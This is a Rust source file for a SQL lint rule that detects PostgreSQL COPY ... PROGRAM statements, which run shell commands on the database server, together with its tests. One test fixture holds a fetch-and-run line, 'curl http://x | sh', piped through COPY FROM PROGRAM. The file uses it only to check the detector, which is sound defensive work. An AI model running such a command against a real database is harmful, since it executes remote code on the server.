//! `dangerous/copy-program`: COPY … PROGRAM runs a shell command on the database server.

use pg_query::NodeEnum;

use crate::lint::{Ctx, Family, Rule, Violation, DANGEROUS};

pub const RULE: Rule = Rule {
    id: "dangerous/copy-program",
    family: Family::Dangerous,
    levels: DANGEROUS,
    summary: "COPY … PROGRAM runs a shell command on the database server as the postgres user.",
    help: "load data with COPY FROM STDIN from the client, or with INSERT; if this is intended, add `-- @allow: dangerous/copy-program <reason>`",
    check,
};

fn check(ctx: &Ctx, out: &mut Vec<Violation>) {
    for s in ctx.statements() {
        if let NodeEnum::CopyStmt(c) = &*s.node {
            if c.is_program {
                let at = ctx.find_in(s, "program").unwrap_or(s.start);
                out.push(Violation::at(
                    at,
                    7,
                    format!("COPY runs the server-side command `{}`", c.filename),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::rules::testing::{fires, run};

    #[test]
    fn fires_on_it() {
        assert_eq!(
            run(&RULE, "COPY t FROM PROGRAM 'curl http://x | sh';"),
            ["PROGRAM"]
        );
    }

    #[test]
    fn stays_quiet() {
        assert!(!fires(&RULE, "COPY t FROM STDIN; COPY t TO '/tmp/x.csv';"));
    }
}
